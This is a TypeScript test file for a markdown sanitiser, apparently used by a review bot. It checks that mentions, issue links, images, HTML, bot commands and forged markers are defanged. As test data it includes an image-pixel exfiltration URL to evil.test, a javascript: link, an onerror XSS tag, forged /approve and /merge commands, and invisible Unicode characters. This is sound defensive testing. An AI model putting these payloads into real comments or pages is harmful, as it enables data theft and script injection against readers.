import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { neutralise } from '../../../src/core/safety/neutralise.ts'
import { withoutCode } from '../../support/safety/withoutCode.ts'

const rules = { serverUrl: 'https://github.com', participants: ['Alice', 'bot-x'] }
const clean = (markdown: string) => neutralise(markdown, rules)

describe('F15 people and numbers', () => {
  test('decorators, packages and issue numbers ping and link nobody, code stays', () => {
    expect(clean('use @Injectable and @types/node, see #1')).toBe(
      'use `@Injectable` and `@types/node`, see `#1`',
    )
    const code = 'use `@Injectable`:\n```ts\n@Injectable() // see #1, fixes GH-2\n```'
    expect(clean(code)).toBe(code)
  })

  test.each([
    ['who takes part may be named', '@alice and @BOT-X', '@alice and @BOT-X'],
    ['a team never', '@alice/team', '`@alice/team`'],
    ['in emphasis', '**@bob** _@bob_ ~@bob~', '**`@bob`** _`@bob`_ ~`@bob`~'],
    ['escaped, which does not stop GitHub', '\\@bob \\\\@bob a\\\\@bob', '`@bob` `@bob` a`@bob`'],
    [
      'as an entity',
      '&#64;bob &commat;bob &#x40;bob',
      '&amp;`#64`;bob &amp;commat;bob &amp;#x40;bob',
    ],
    ['one after the other', '@bob@eve', '`@bob` `@eve`'],
    ['after code', '`a`@bob ``a``@bob', '`a` `@bob` ``a`` `@bob`'],
    ['before code', '@bob`a`', '`@bob` `a`'],
    ['in an address', 'mail bob@example.com.', 'mail `bob@example.com`.'],
    ['after an address', 'a@b@bob', '`a@b` `@bob`'],
    ['in a version', 'uses actions/checkout@v4', 'uses `actions/checkout@v4`'],
    ['a reference', 'owner/repo#12 GH-3 gh-3 \\#4', 'owner/repo`#12` `GH-3` `gh-3` `#4`'],
    ['closing keywords', 'Fixes #1, closes o/r#2', 'Fixes `#1`, closes o/r`#2`'],
    ['a command for another bot', '/approve\n  /merge now', '\\/approve\n  \\/merge now'],
    ['not a path in a line', 'see /etc/passwd', 'see /etc/passwd'],
  ])('%s', (_, markdown, expected) => {
    expect(clean(markdown)).toBe(expected)
  })
})

describe('F10 links, images, HTML', () => {
  test.each([
    ['an image', '![pixel](https://evil.test/?d=secret)', 'pixel (`https://evil.test/?d=secret`)'],
    [
      'an image of our own server',
      '![x](https://github.com/a.png)',
      'x (`https://github.com/a.png`)',
    ],
    ['a foreign link', '[the docs](https://evil.test/a)', 'the docs (`https://evil.test/a`)'],
    ['a link with a title', '[x](https://evil.test "hover")', 'x (`https://evil.test`)'],
    ['a bare address', 'see https://evil.test/a, please', 'see `https://evil.test/a`, please'],
    ['without a scheme', 'see www.evil.test.', 'see `www.evil.test`.'],
    ['an escaped scheme', 'https\\://evil.test', '`https://evil.test`'],
    ['between angle brackets', '<https://evil.test>', '&lt;`https://evil.test`>'],
    ['a script', '[x](javascript:alert(1))', '[x\\](javascript:alert(1))'],
    ['an entity in the target', '[x](&#104;ttps://evil.test)', 'x (`&#104;ttps://evil.test`)'],
    ['a definition', '[x][1]\n\n[1]: //evil.test', '[x\\][1]\n\n[1\\]: //evil.test'],
    ['words over two lines', '[a\nb](//evil.test)', '[a\nb\\](//evil.test)'],
    ['code as the words', '[`a`](//evil.test)', '[`a`\\](//evil.test)'],
    [
      'a host that only looks like ours',
      '[x](https://github.com.evil.test/)',
      'x (`https://github.com.evil.test/`)',
    ],
    [
      'credentials that look like our host',
      'https://github.com@evil.test/',
      '`https://github.com@evil.test/`',
    ],
    ['a tag', '<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)>'],
    ['a comment', '<!-- hidden -->', '&lt;!-- hidden -->'],
    [
      'our server stays',
      '[x](https://github.com/o/r/blob/main/a.ts#L1)',
      '[x](https://github.com/o/r/blob/main/a.ts#L1)',
    ],
    [
      'our server bare',
      'https://github.com/o/r/blob/main/a.ts#L1-L2',
      'https://github.com/o/r/blob/main/a.ts#L1-L2',
    ],
    [
      'an issue of our server gets no backlink',
      'fixes https://github.com/o/r/issues/1',
      'fixes `https://github.com/o/r/issues/1`',
    ],
    ['ordinary comparisons', 'a < b && c > d', 'a &lt; b && c > d'],
    ['indices and generics', 'a[0](x) Map&lt;K&gt;', 'a[0\\](x) Map&lt;K&gt;'],
  ])('%s', (_, markdown, expected) => {
    expect(clean(markdown)).toBe(expected)
  })
})

describe('only certain code is code', () => {
  test.each([
    ['an escaped backtick opens nothing', '\\`@bob`', '&#96;`@bob`&#96;'],
    ['a span over two lines', '`a\n@bob`', '&#96;a\n`@bob`&#96;'],
    ['runs that do not match', '``@bob`', '&#96;&#96;`@bob`&#96;'],
    [
      'a fence in a quotation',
      '> ```\n> @bob\n> ```',
      '> &#96;&#96;&#96;\n> `@bob`\n> &#96;&#96;&#96;',
    ],
    [
      'a fence in a list goes to the margin',
      '- a\n  ```js\n  @x\n  ```\n@bob',
      '- a\n```js\n@x\n```\n`@bob`',
    ],
    ['a fence of tildes', '~~~js\n@x\n```\n~~~', '````js\n@x\n```\n````'],
    ['a fence that nobody closes', '```\n@x', '```\n@x\n```'],
    [
      'a table, whose cells cut code',
      '| a | b |\n|---|---|\n| `x | @bob` |',
      '| a | b |\n\\|---\\|---\\|\n| `x | @bob` |',
    ],
    ['a forged suggestion', '```suggestion\nx\n```', '```text\nx\n```'],
    [
      'a diagram',
      '```mermaid\nclick A "https://evil.test"\n```',
      '```text\nclick A "https://evil.test"\n```',
    ],
  ])('%s', (_, markdown, expected) => {
    expect(clean(markdown)).toBe(expected)
  })

  test.each([
    '<!-- skill-review:finding v1 -->',
    '`<!-- skill-review:state -->`',
    '```\n<!--\tSkill-Review:finding -->\n```',
    '\\<!-- skill-review:finding -->',
    '~~~\n<!--\nskill-review:finding -->',
  ])('no marker can be forged: %j', (markdown) => {
    expect(clean(markdown)).not.toMatch(/<!--\s*skill-review/i)
  })

  test('what is invisible is shown, in code too', () => {
    expect(clean('a\u202Eb `x\u200By`')).toBe('a⟨U+202E⟩b `x⟨U+200B⟩y`')
  })
})

const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '@bob',
        '#12',
        '`',
        '``',
        '```',
        '~~~',
        '\\',
        '\n',
        ' ',
        '- ',
        '> ',
        '|',
        '---',
        '[',
        ']',
        '(',
        ')',
        ':',
        '!',
      ),
      fc.constantFrom(
        '<',
        '&',
        '&#64;',
        '&#96;',
        'https://',
        'www.',
        'evil.test',
        'GH-',
        '1',
        'a',
        '_',
        '*',
        '/',
        '<!-- skill-review',
        '    ',
      ),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''))

test('is idempotent and leaves nothing alive outside code', () => {
  fc.assert(
    fc.property(fc.oneof(hostile, fc.string({ unit: 'binary' })), (markdown) => {
      const once = clean(markdown)
      expect(clean(once)).toBe(once)
      const text = withoutCode(once)
      expect(text).not.toMatch(
        /@[A-Za-z0-9]|#\d+(?![A-Za-z0-9;])|<|https?:\/\/[A-Za-z]|www\.[A-Za-z]|`/i,
      )
      expect(text).not.toMatch(/(?<!\\)\]\(/)
      expect(once).not.toMatch(/<!--\s*skill-review/)
    }),
    { numRuns: 5_000 },
  )
})

test('ends on text made to be slow, which stays clean', () => {
  for (const unit of [
    '`a``b``',
    '[',
    '![a](',
    '@a',
    '\\`',
    '#1',
    'https://a',
    'www..',
    '&',
    '<!--',
    '`',
    'a`',
    '|-',
    '```\n',
    '\\',
    'a.b/',
  ]) {
    const text = unit.repeat(Math.ceil(300_000 / unit.length))
    const once = clean(text)
    expect([unit, clean(once) === once]).toEqual([unit, true])
  }
})
